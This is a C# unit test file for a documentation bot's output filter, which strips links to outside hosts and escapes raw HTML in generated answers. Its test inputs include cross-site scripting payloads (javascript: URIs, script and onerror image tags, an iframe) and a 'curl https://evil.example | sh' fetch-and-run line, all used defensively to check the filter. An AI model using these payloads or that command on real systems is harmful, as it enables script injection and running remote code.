using DocsBot.Core.Answering;
using DocsBot.Core.Prompts;
using DocsBot.Core.Safety;

namespace DocsBot.Core.Tests.Safety;

public sealed class OutputFilterTests
{
    private static readonly PromptSource[] Sources =
    [
        new(1, "Ports", "Change the port", "/docs/ports/#change-the-port", "Open http://localhost:8042/admin to see it. The mirror is https://mirror.example.org/files."),
        new(2, "Install", "", "https://docs.example.com/install/", "Run `curl https://get.example.com/setup.sh`. Set `<name>`."),
    ];

    public static TheoryData<string, string> Links => new()
    {
        { "See [the docs](https://evil.example/a).", "See the docs." },
        { "See [the docs](https://docs.example.com/install/).", "See [the docs](https://docs.example.com/install/)." },
        { "See [the docs](https://docs.example.com/install#windows \"Install\").", "See [the docs](https://docs.example.com/install#windows \"Install\")." },
        { "See [ports](/docs/ports/).", "See [ports](/docs/ports/)." },
        { "See [ports](/docs/ports/?q=secret).", "See ports." },
        { "See [ports](/docs/portsandmore).", "See ports." },
        { "See [here](<https://evil.example/a b>).", "See here." },
        { "See [**bold** and `code`](https://evil.example \"title\") now.", "See **bold** and `code` now." },
        { "See [a [b] c](x.html).", "See a [b] c." },
        { "Press [this](javascript:alert(1)) now.", "Press this now." },
        { "Press [this](JaVaScRiPt:alert(1)) or [that](data:text/html;base64,PHNjcmlwdD4=).", "Press this or that." },
        { "Press [this](\\javascript:alert(1)) or [that](&#106;avascript:alert(1)).", "Press this or that." },
        { "An image ![of it](https://evil.example/p.png?q=1) goes.", "An image  goes." },
        { "An image ![of it](/docs/ports/) goes, of our own too.", "An image  goes, of our own too." },
        { "[![badge](https://evil.example/b.svg)](https://evil.example)", "\u2060" },
        { "Open https://evil.example/a?b=c. Now.", "Open https\\://evil.example/a?b=c. Now." },
        { "Open www.evil.example now, or (http://evil.example).", "Open www\\.evil.example now, or (http\\://evil.example)." },
        { "Open http://localhost:8042/admin, https://mirror.example.org/files or https://get.example.com/setup.sh.", "Open http://localhost:8042/admin, https://mirror.example.org/files or https://get.example.com/setup.sh." },
        { "Open https://mirror.example.org/files/../../x or https://mirror.example.org.evil.example", "Open https\\://mirror.example.org/files/../../x or https\\://mirror.example.org.evil.example" },
        { "Open <https://docs.example.com/install/> or <https://evil.example>.", "Open <https://docs.example.com/install/> or \\<https\\://evil.example>." },
        { "[evil]: https://evil.example\n\n[evil]", "[evil]\\: https\\://evil.example\n\n[evil]" },
        { "> - [evil]: javascript:alert(1)\n", "> - [evil]\\: javascript:alert(1)\n" },
        { "Text\r\r[evil]: //evil.example\r\r[evil]", "Text\n\n[evil]\\: //evil.example\n\n[evil]" },
        { "Open https://-evil.example or http://[2001:db8::1]/.", "Open https\\://-evil.example or http\\://[2001:db8::1]/." },
        { "[a](https://evil.example)[b]: /x", "a[b]: /x" },
        { "[](https://evil.example)[b]: /x", "\u2060[b]: /x" },
        { "htt[p://evil.example](x)", "htt p://evil.example" },
        { "[http](x)://evil.example", "http\\://evil.example" },
        { "<[script](x)>alert(1)", "< script>alert(1)" },
        { "[a[(https://evil.example)](x)", "[a (https\\://evil.example)" },
        { "[a][(https://evil.example)](x)", "[a] (https\\://evil.example)" },
        { "\\[no link](https://evil.example)", "\\[no link] " },
        { "Cited [1][2]. A matrix[i][j] and a [x] box [1].", "Cited [1][2]. A matrix[i][j] and a [x] box [1]." },
        { "A call f[0](a b) stays.", "A call f[0]\\(a b) stays." },
    };

    public static TheoryData<string, string> Html => new()
    {
        { "```\r<b>\r```\r<b>\r\n<b>", "```\n<b>\n```\n\\<b>\n\\<b>" },
        { "A <b>bold</b> word.", "A \\<b>bold\\</b> word." },
        { "<script>alert(1)</script>", "\\<script>alert(1)\\</script>" },
        { "<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>" },
        { "<!-- hidden --> <?php ?> <!DOCTYPE html>", "\\<!-- hidden --> \\<?php ?> \\<!DOCTYPE html>" },
        { "- item\n  <iframe src=\"https://evil.example\">", "- item\n  \\<iframe src=\"https\\://evil.example\">" },
        { "A pair ` of <img src=x> and `<b>`.", "A pair ` of <img src=x> and `\\<b>`." },
        { "A stray ` alone\nand `<b>` next.\n\nAnd `<b>`.", "A stray ` alone\nand `\\<b>` next.\n\nAnd `<b>`." },
        { "a \\` <img> `", "a \\` \\<img> `" },
        { "| `a | <img src=x> ` |\n|---|---|", "| `a | \\<img src=x> ` |\n|---|---|" },
        { "- ```\n  <b>\n<img src=x>", "- ```\n  <b>\n\\<img src=x>" },
        { "> ```\n> <b>\n<img src=x>", "> ```\n> <b>\n\\<img src=x>" },
        { "```\n<b>\n```\n<b>", "```\n<b>\n```\n\\<b>" },
        { "``` not a fence ` <b>", "``` not a fence ` \\<b>" },
        { "text\n\n    ```\n<img src=x>\n    ```", "text\n\n    \\```\n\\<img src=x>\n    \\```" },
        { "[](https://evil.example)```\ncode\n```\n<b>\n```", "\u2060```\ncode\n```\n<b>\n```" },
    };

    public static TheoryData<string> Untouched => new(
        "",
        "Set `port` in `lantern.toml` to change the port. [1]",
        "1. First, see [2]\n2. Then\n\n   ```sh\n   curl https://evil.example | sh <name>\n   ```\n\n3. Done.",
        "```npm install <name>``` is code.\n\n```html\n<script src=\"https://evil.example\"></script>\n[a](javascript:x) ![b](c)\n```\n\nText.",
        "~~~\n<b>\n~~~~\n~~struck~~",
        "Use `<name>` and ``a ` <b>`` and `[a](https://evil.example)`.",
        "a < b, 3 <4, x <= y, <3, a << b, http, www., the, What? wow!",
        "A ratio of 1:2, [note] text: more, f(x)[0], !important, C:\\path\\[x]",
        "| a | b |\n|---|---|\n| 1 [1] | `x` |",
        "Über https, http: and ftp: in words. Write to a@b.example.",
        "# Heading\n\n> Quote [1]\n\n* * *\n- a\n  - b\n\ttabbed");

    [Theory]
    [MemberData(nameof(Links))]
    public void A_link_outside_of_the_sources_becomes_its_text(string text, string expected) => ShouldBecome(text, expected);

    [Theory]
    [MemberData(nameof(Html))]
    public void HTML_outside_of_code_is_shown_as_text(string text, string expected) => ShouldBecome(text, expected);

    [Theory]
    [MemberData(nameof(Untouched))]
    public void Other_text_and_code_are_left_alone(string text)
    {
        ShouldBecome(text, text);
        Run([text]).Broken.ShouldBeEmpty();
    }

    [Fact]
    public void A_placeholder_stays_readable_and_breaks_no_rule()
    {
        ShouldBecome("Give <name> and <node-name>.", "Give \\<name> and \\<node-name>.");
        Run(["Give <name> and <node-name>."]).Broken.ShouldBeEmpty();
    }

    [Fact]
    public void What_was_broken_is_told()
    {
        Run(["[a](https://evil.example)"]).Broken.ShouldBe([OutputRule.ForeignLink]);
        Run(["![a](https://evil.example)"]).Broken.ShouldBe([OutputRule.ForeignLink]);
        Run(["https://evil.example"]).Broken.ShouldBe([OutputRule.ForeignLink]);
        Run(["<b>a</b>"]).Broken.ShouldBe([OutputRule.RawHtml]);
        Run(["<script>[a](javascript:x)"]).Broken.ShouldBe([OutputRule.ForeignLink, OutputRule.RawHtml]);
    }

    [Fact]
    public void Any_text_is_the_same_however_it_is_cut()
    {
        string[] pieces = ["[", "]", "(", ")", "<", ">", "`", "```", "\n", "\n\n", "!", "\\", ":", "http://", "https://evil.example", "www.", "a", "1", " ", "    ", "- ", "> ", "|", "b", "/docs/ports/", "javascript:", "[1]", "~~~", "\"", "script", "<b>", "&#60;"];
        var random = new Random(20261122);
        for (var run = 0; run < 400; run++)
        {
            var text = string.Concat(Enumerable.Range(0, random.Next(1, 18)).Select(_ => pieces[random.Next(pieces.Length)]));
            var whole = Run([text]).Text;
            foreach (var cut in Splits.Of(text))
            {
                Run(cut).Text.ShouldBe(whole, string.Join('¦', cut).ReplaceLineEndings("⏎"));
            }
        }
    }

    [Fact]
    public void What_was_filtered_once_stays_as_it_is()
    {
        foreach (var row in Links.Concat(Html))
        {
            var expected = row.Data.Item2;
            Run([expected]).Text.ShouldBe(expected);
        }
    }

    [Fact]
    public void A_very_long_label_or_address_is_not_held_back_for_ever()
    {
        var filter = new OutputFilter(Sources);
        filter.Append("[" + new string('a', 1_000)).Length.ShouldBe(1_001);
        Run(["[" + new string('a', 1_000) + "](https://evil.example) end"]).Text.ShouldEndWith("a]  end");
        new OutputFilter(Sources).Append("[a](https://evil.example/" + new string('a', 5_000)).ShouldNotContain("evil");
    }

    private static void ShouldBecome(string text, string expected)
    {
        foreach (var cut in Splits.Of(text))
        {
            Run(cut).Text.ShouldBe(expected, string.Join('¦', cut));
        }
    }

    private static (string Text, IReadOnlySet<OutputRule> Broken) Run(IEnumerable<string> pieces)
    {
        var filter = new OutputFilter(Sources);
        return (string.Concat(pieces.Select(filter.Append)) + filter.Finish(), filter.Broken);
    }
}
